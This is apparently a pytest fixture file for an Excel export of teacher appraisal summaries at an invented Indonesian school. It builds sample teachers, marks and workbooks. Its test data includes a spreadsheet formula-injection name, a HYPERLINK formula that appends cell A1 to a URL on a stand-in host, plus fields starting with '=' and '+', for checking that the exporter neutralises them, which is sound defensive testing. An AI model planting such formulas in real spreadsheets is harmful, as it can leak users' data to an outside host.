"""An invented school's rekap: one guru of each kind that makes a difference, one unfinished, one with a hostile name."""

from collections.abc import Callable, Mapping
from datetime import date
from fractions import Fraction
from io import BytesIO

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from collect.catalog.read import Catalog, load_catalog
from collect.domain.appraisal import AppraisalInput, Scored, appraise
from collect.domain.credit import CreditInput
from collect.domain.instrument import Instrument
from collect.domain.kinds import Group, PeriodKind, SchoolKind, TeacherType
from collect.reports.rekap import GuruIdentity, Rekap, RekapRow, SchoolIdentity, Signatory, rekap_workbook

DAY = date(2026, 11, 22)
HOSTILE = "=HYPERLINK(\"http://example.test/?\"&A1,'[klik]')&/\\*?: " + "Panjang" * 40
SCHOOL = SchoolIdentity(
    "SMK Negeri 1 & Contoh",
    "99999901",
    "Jalan Melati 12",
    "Contoh Raya",
    "Drs. H. Muhammad Abdurrahman Wahyudiningrat Kusumonegoro, S.Pd., M.Pd.I.",
    "196501011990011001",
    "Melati Lestari, S.Pd.",
    "198502022010012002",
    SchoolKind.VOCATIONAL,
)

STANDARD_CREDIT = CreditInput("III/c", Fraction(24))

RowMaker = Callable[..., RekapRow]


def marks(*values: str) -> tuple[Fraction, ...]:
    return tuple(Fraction(value) for value in values)


PEERS = marks("80", "75.5", "91", "88", "70", "95", "82", "77", "85.25", "90")
STUDENTS = marks("66.6667", "71", "83", "90", "55", "100", "95", "88", "79", "81", "64")
PARENTS = marks("93.75", "87.5", "75")
GROUPS: dict[Group, tuple[Fraction, ...]] = {Group.PEER: PEERS, Group.STUDENT: STUDENTS, Group.PARENT: PARENTS}


def scores_of(instrument: Instrument, level: int = 3) -> dict[int, tuple[int, ...]]:
    """Scores that differ from competence to competence; a higher level is better."""
    top = instrument.scale[-1]
    return {
        c.number: tuple(max(top - (c.number + place) % level, instrument.scale[0]) for place in range(c.size))
        for c in instrument.competences
    }


@pytest.fixture(scope="session")
def catalog() -> Catalog:
    return load_catalog(on=DAY)


@pytest.fixture(scope="session")
def make_row(catalog: Catalog) -> RowMaker:
    """A guru with a whole input; anything of the input may be replaced."""

    def make(
        name: str,
        kind: TeacherType,
        code: str = "guru-mapel",
        *,
        duty: str | None = None,
        notes: tuple[str, ...] = (),
        level: int = 3,
        groups: Mapping[Group, tuple[Fraction, ...]] | None = None,
        credit: CreditInput | None = STANDARD_CREDIT,
        excluded: Mapping[Group, str] | None = None,
        required: Mapping[Group, int] | None = None,
    ) -> RekapRow:
        regulation, instrument = catalog.regulation("pkg-2016"), catalog.instrument(code)
        extra = catalog.instrument(duty) if duty else None
        wanted = regulation.proportions[kind].groups
        known = GROUPS if groups is None else groups
        given = AppraisalInput(
            teacher_type=kind,
            teaching=Scored(instrument, scores=scores_of(instrument, level)),
            groups={group: values for group, values in known.items() if group in wanted},
            duty=Scored(extra, scores=scores_of(extra)) if extra else None,
            absent_days=Fraction(3),
            late_minutes=Fraction(45),
            credit=credit,
            excluded=excluded or {},
            required=required or {},
        )
        person = GuruIdentity(
            name, "198001012005011001", "9000000000000001", "III/c", "Matematika", "Perempuan", DAY, "PNS"
        )
        assessor = Signatory("Ratna Wulandari, M.Pd.", "197001011995011001")
        return RekapRow(person, assessor, kind, instrument, given, appraise(regulation, given), extra, notes=notes)

    return make


@pytest.fixture(scope="session")
def make_rekap(catalog: Catalog) -> Callable[..., Rekap]:
    def make(*rows: RekapRow, kind: PeriodKind = PeriodKind.SUMMATIVE, regulation: str = "pkg-2016") -> Rekap:
        return Rekap(SCHOOL, "PK Guru 2026", kind, 2026, DAY, catalog.regulation(regulation), rows)

    return make


@pytest.fixture(scope="session")
def small_school(make_row: RowMaker, make_rekap: Callable[..., Rekap], catalog: Catalog) -> Rekap:
    """All that a rekap can hold, in seven guru."""
    industry = {**GROUPS, Group.INDUSTRY: marks("83.3333")}
    waiting = RekapRow(
        GuruIdentity("Dedi Nasution"), Signatory(), TeacherType.SUBJECT, catalog.instrument("guru-mapel")
    )
    return make_rekap(
        make_row("Siti Aminah, S.Pd.", TeacherType.SUBJECT, credit=CreditInput("III/a", Fraction(18), 1, 2)),
        make_row("Bagus Prasetyo", TeacherType.VOCATIONAL, groups=industry, level=2),
        make_row("Nur'aini Lestari", TeacherType.COUNSELLOR, "guru-bk", duty="kepala-laboratorium"),
        make_row(
            "Wayan Hidayat", TeacherType.LOWER_GRADES, excluded={Group.PEER: "=Rapat batal"}, required={Group.PARENT: 3}
        ),
        make_row("Agus Simatupang", TeacherType.PRINCIPAL, duty="kepala-sekolah", required=dict.fromkeys(GROUPS, 3)),
        waiting,
        make_row(
            HOSTILE,
            TeacherType.SUBJECT,
            groups={**GROUPS, Group.PARENT: PARENTS[:1]},
            required={Group.PARENT: 1},
            notes=("+catatan",),
        ),
    )


@pytest.fixture(scope="session")
def written(small_school: Rekap) -> bytes:
    return rekap_workbook(small_school)


@pytest.fixture(scope="session")
def opened(written: bytes) -> tuple[Workbook, Workbook]:
    """The workbook with its formulas, and with the values that we wrote beside them."""
    return openpyxl.load_workbook(BytesIO(written)), openpyxl.load_workbook(BytesIO(written), data_only=True)
